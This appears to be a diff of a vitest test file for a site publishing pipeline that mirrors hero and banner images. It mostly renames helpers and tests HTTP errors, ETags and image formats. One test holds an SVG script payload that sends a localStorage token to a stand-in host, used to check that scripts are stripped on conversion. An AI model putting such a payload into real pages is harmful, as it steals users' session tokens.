@@ -5,7 +5,7 @@ import { DatabaseSync } from 'node:sqlite'
 import sharp from 'sharp'
 import { afterAll, beforeAll, expect, it } from 'vitest'
 import { recordsOf } from '#publishing/content-db/records.ts'
-import { forgetChanges, openSnapshot } from '#publishing/content-db/snapshot.ts'
+import { clearChanges, openSnapshot } from '#publishing/content-db/snapshot.ts'
 import { ingest } from '#publishing/ingest/ingest.ts'
 import { linkPictures } from '#publishing/site/pictures.ts'
 import { SiteEdit } from '#publishing/site/site-edit.ts'
@@ -29,7 +29,7 @@ beforeAll(async () => {
     [background('film0001', 1280)]: picture(1280, 720),
     '/banner.svg': picture(300, 60),
   })
-  remote.answers['/apps/configs/demo0001.json'] = {
+  remote.responses['/apps/configs/demo0001.json'] = {
     description: '',
     siteId: 'site0001',
     assets: { banner: `${remote.url}/banner.svg` },
@@ -56,7 +56,7 @@ const heroNow = () => {
   return found
 }
 
-it("a pull copies hero images and the banner to the site's origin and stores their dimensions", async () => {
+it("an ingest copies hero images and the banner to the site's origin and stores their dimensions", async () => {
   const { warnings } = await ingestNow()
   const { hero, none, banner } = heroNow()
   expect(hero?.map(({ width, height }) => [width, height])).toEqual([
@@ -80,22 +80,22 @@ it('an item is recorded as pictureless after a 404, but not after a 500 or with 
   }
   expect(recorded()).toEqual([false, true])
   // A 500 is no proof of a missing image
-  remote.upset(card, { status: 500 }, { status: 500 })
+  remote.queueFault(card, { status: 500 }, { status: 500 })
   await ingestNow()
   expect(recorded()).toEqual([false, false])
   await ingestNow()
   expect(recorded()).toEqual([false, true])
-  remote.answers[card] = picture(320, 180)
+  remote.responses[card] = picture(320, 180)
   await ingestNow()
   expect(recorded()).toEqual([false, false])
-  delete remote.answers[card]
+  delete remote.responses[card]
   await ingestNow()
 })
 
 it('a banner path of the site is used, and an unreadable banner path is omitted with a warning', async () => {
-  const config = remote.answers['/apps/configs/demo0001.json']
+  const config = remote.responses['/apps/configs/demo0001.json']
   const bannerAt = async (banner: string) => {
-    remote.answers['/apps/configs/demo0001.json'] = { ...Object(config), assets: { banner } }
+    remote.responses['/apps/configs/demo0001.json'] = { ...Object(config), assets: { banner } }
     const { warnings } = await ingestNow()
     return { banner: heroNow().banner, warning: warnings.find((line) => line.startsWith('assets.banner')) }
   }
@@ -110,7 +110,7 @@ it('a banner path of the site is used, and an unreadable banner path is omitted 
         warning: `assets.banner: there is no picture at ${unreadable}`,
       })
   } finally {
-    remote.answers['/apps/configs/demo0001.json'] = config
+    remote.responses['/apps/configs/demo0001.json'] = config
     await ingestNow()
   }
 })
@@ -135,8 +135,8 @@ it('linkPictures adds exactly the images that the pages reference to the output'
 
 it('an image that fails to download retains its stored copy, and a changed image has a new URL', async () => {
   const before = heroNow().hero
-  remote.upset(background('film0001', 640), { status: 500 }, { status: 500 })
-  remote.answers[background('film0001', 1280)] = picture(1280, 721)
+  remote.queueFault(background('film0001', 640), { status: 500 }, { status: 500 })
+  remote.responses[background('film0001', 1280)] = picture(1280, 721)
   await ingestNow()
   const after = heroNow().hero
   expect(after?.[0]).toEqual(before?.[0])
@@ -146,7 +146,7 @@ it('an image that fails to download retains its stored copy, and a changed image
 
 it('an unchanged image is requested with its ETag and retained on a 304 response', async () => {
   const etag = { headers: { etag: '"one"' }, body: picture(640, 360) }
-  remote.upset(background('film0001', 640), etag, { status: 304 })
+  remote.queueFault(background('film0001', 640), etag, { status: 304 })
   await ingestNow()
   await ingestNow()
   expect(remote.etags).toEqual(['"one"'])
@@ -154,14 +154,14 @@ it('an unchanged image is requested with its ETag and retained on a 304 response
 })
 
 it('an image URL that returns HTML adds a warning', async () => {
-  remote.answers[background('film0002', 640)] = '<html>Sorry</html>'
+  remote.responses[background('film0002', 640)] = '<html>Sorry</html>'
   expect((await ingestNow()).warnings[0]).toMatch(/^A picture could not be mirrored: .*film0002.* is no picture/)
 })
 
 it('a publisher SVG is converted to WebP, and its script is not stored on the site', async () => {
   const script = '<script>new Image().src = "//evil.test/" + localStorage.getItem("inplayer_token")</script>'
-  remote.answers['/banner.svg'] = picture(300, 60, script)
-  remote.answers[background('film0001', 1280)] = picture(1280, 722, script)
+  remote.responses['/banner.svg'] = picture(300, 60, script)
+  remote.responses[background('film0001', 1280)] = picture(1280, 722, script)
   await ingestNow()
   const { banner, hero } = heroNow()
   expect([banner, hero?.[1]]).toMatchObject([
@@ -181,7 +181,7 @@ it('an image in a format without browser support is omitted with a warning', asy
   const tiff = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#ff0000' } })
     .tiff()
     .toBuffer()
-  remote.answers[background('film0002', 640)] = tiff
+  remote.responses[background('film0002', 640)] = tiff
   expect((await ingestNow()).warnings[0]).toMatch(/^A picture could not be mirrored: .*film0002.* is no picture/)
   expect(heroNow().none).toEqual([])
 })
@@ -211,8 +211,8 @@ it('a half-written copy is replaced by the whole image', async () => {
 
 it('a new item whose image requests fail has no image record and is not reported as pictureless', async () => {
   const list = '/v2/playlists/films001?page_limit=500&page_offset=1'
-  const before = remote.answers[list]
-  remote.answers[list] = { playlist: [film('film0001'), film('film0002'), film('film0003')] }
+  const before = remote.responses[list]
+  remote.responses[list] = { playlist: [film('film0001'), film('film0002'), film('film0003')] }
   const found = () => {
     const snapshot = openSnapshot(file, { readOnly: true })
     const records = recordsOf(snapshot)
@@ -221,7 +221,7 @@ it('a new item whose image requests fail has no image record and is not reported
     return of
   }
   try {
-    for (const width of [640, 1280]) remote.upset(background('film0003', width), { status: 500 }, { status: 500 })
+    for (const width of [640, 1280]) remote.queueFault(background('film0003', width), { status: 500 }, { status: 500 })
     const { warnings } = await ingestNow()
     expect(found()).toEqual({ hero: undefined, pictureless: false })
     expect(warnings.filter((line) => line.startsWith('Media without')).join()).not.toContain('film0003')
@@ -229,12 +229,12 @@ it('a new item whose image requests fail has no image record and is not reported
     await ingestNow()
     expect(found()).toEqual({ hero: [], pictureless: true })
   } finally {
-    remote.answers[list] = before
+    remote.responses[list] = before
     await ingestNow()
   }
 })
 
-it('an image record without its file is removed, also if the limit of a pull omits the item', async () => {
+it('an image record without its file is removed, also if the limit of an ingest omits the item', async () => {
   await ingestNow()
   const { hero = [] } = heroNow()
   expect(hero).toHaveLength(2)
@@ -245,10 +245,10 @@ it('an image record without its file is removed, also if the limit of a pull omi
   expect(heroNow().hero).toEqual(hero)
 })
 
-it('pulls with a limit check the images of all media in turn', async () => {
+it('ingests with a limit check the images of all media in rotation', async () => {
   await ingestNow()
   const snapshot = openSnapshot(file)
-  forgetChanges(snapshot)
+  clearChanges(snapshot)
   snapshot.close()
   const checked: string[] = []
   for (const _ of ['one', 'two', 'three']) {
